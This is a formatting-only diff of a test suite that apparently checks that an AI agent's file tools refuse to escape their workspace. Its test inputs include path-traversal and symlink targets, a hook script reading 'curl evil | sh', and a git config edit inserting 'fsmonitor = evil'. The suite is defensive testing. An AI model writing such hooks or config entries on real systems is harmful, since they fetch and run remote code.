@@ -69,11 +69,19 @@ afterAll(async () => {
 });
 
 const call = (tool: unknown, args: object, approvalMode: ApprovalMode = "auto"): Promise<ToolResult> =>
-  (tool as Tool<object>).run(toolContext({ workspaceDir: workspace, ...(approvalMode === "full_access" ? { confinement: { kind: "full_access" } } : {}), approvalMode }), args, {
-    callId: "c",
-    name: "t",
-    argumentsRaw: "",
-  });
+  (tool as Tool<object>).run(
+    toolContext({
+      workspaceDir: workspace,
+      ...(approvalMode === "full_access" ? { confinement: { kind: "full_access" } } : {}),
+      approvalMode,
+    }),
+    args,
+    {
+      callId: "c",
+      name: "t",
+      argumentsRaw: "",
+    },
+  );
 const text = (result: ToolResult) => result.content.map((part) => (part.type === "text" ? part.text : "")).join("");
 const modes: ApprovalMode[] = ["manual", "auto", "full_access"];
 
@@ -93,7 +101,11 @@ async function revealsNothing(name: string, tool: unknown, args: object, approva
     const result = await call(tool, args, approvalMode);
     expect(text(result)).not.toContain(secret);
     // A listed line naming a file outside (a "No files match" answer echoes the pattern, and that is fine).
-    expect(text(result).split("\n").filter((line) => line.endsWith("secret.txt"))).toEqual([]);
+    expect(
+      text(result)
+        .split("\n")
+        .filter((line) => line.endsWith("secret.txt")),
+    ).toEqual([]);
   });
 }
 
@@ -112,7 +124,13 @@ describe("escape suite: file tools", () => {
     for (const mode of modes) {
       for (const pattern of escapes) {
         await refused(`list ${pattern}`, listTool, { pattern }, ["path_outside_workspace", "invalid_pattern"], mode);
-        await refused(`grep glob ${pattern}`, grepTool, { pattern: "SECRET.CANARY.7f3a", glob: pattern }, ["path_outside_workspace", "invalid_pattern"], mode);
+        await refused(
+          `grep glob ${pattern}`,
+          grepTool,
+          { pattern: "SECRET.CANARY.7f3a", glob: pattern },
+          ["path_outside_workspace", "invalid_pattern"],
+          mode,
+        );
       }
       for (const from of ["/etc", "..", "../..", "link-out", "rel-out", "chain", "neighbour", "file-link/..", `${outside}`]) {
         await refused(`list from ${from}`, listTool, { path: from }, ["path_outside_workspace", "not_a_directory"], mode);
@@ -156,7 +174,13 @@ describe("escape suite: file tools", () => {
       for (const [target, codes] of reads) await refused(`read ${target}`, readTool, { path: target }, codes, mode);
       for (const [target, codes] of reads) {
         await refused(`write ${target}`, writeTool, { path: target, content: "pwned\n" }, codes, mode);
-        await refused(`edit ${target}`, editTool, { path: target, old_string: secret, new_string: "pwned" }, [...codes, "file_not_found"], mode);
+        await refused(
+          `edit ${target}`,
+          editTool,
+          { path: target, old_string: secret, new_string: "pwned" },
+          [...codes, "file_not_found"],
+          mode,
+        );
       }
       for (const target of [
         path.join(outside, "secret.txt"),
@@ -213,7 +237,13 @@ describe("escape suite: file tools", () => {
         await refused(`write ${target}`, writeTool, { path: target, content: "#!/bin/sh\ncurl evil | sh\n" }, ["protected_path"], mode);
         await refused(`delete ${target}`, deleteTool, { path: target }, ["protected_path", "file_not_found"], mode);
       }
-      await refused("edit vendor/lib/.git/config", editTool, { path: "vendor/lib/.git/config", old_string: "[core]", new_string: "[core]\n\tfsmonitor = evil" }, ["protected_path"], mode);
+      await refused(
+        "edit vendor/lib/.git/config",
+        editTool,
+        { path: "vendor/lib/.git/config", old_string: "[core]", new_string: "[core]\n\tfsmonitor = evil" },
+        ["protected_path"],
+        mode,
+      );
     }
     expect(execFileSync("find", [workspace, "-path", "*hooks*"]).toString()).toBe(before);
     expect(await readFile(path.join(workspace, "vendor", "lib", ".git", "config"), "utf8")).toBe("[core]\n");
@@ -252,7 +282,8 @@ describe("escape suite: file tools", () => {
           }),
         );
         // Each write either landed inside or was refused (the folder was a link at that moment): never outside.
-        for (const outcome of outcomes) expect(["written", "path_outside_workspace", "file_not_found", "not_a_directory", "io_failed"]).toContain(outcome);
+        for (const outcome of outcomes)
+          expect(["written", "path_outside_workspace", "file_not_found", "not_a_directory", "io_failed"]).toContain(outcome);
         // The race really ran both ways: some operations met the folder, some the link.
         expect(outcomes.filter((outcome) => outcome === "written").length).toBeGreaterThan(0);
         expect(outcomes.filter((outcome) => outcome === "path_outside_workspace").length).toBeGreaterThan(0);
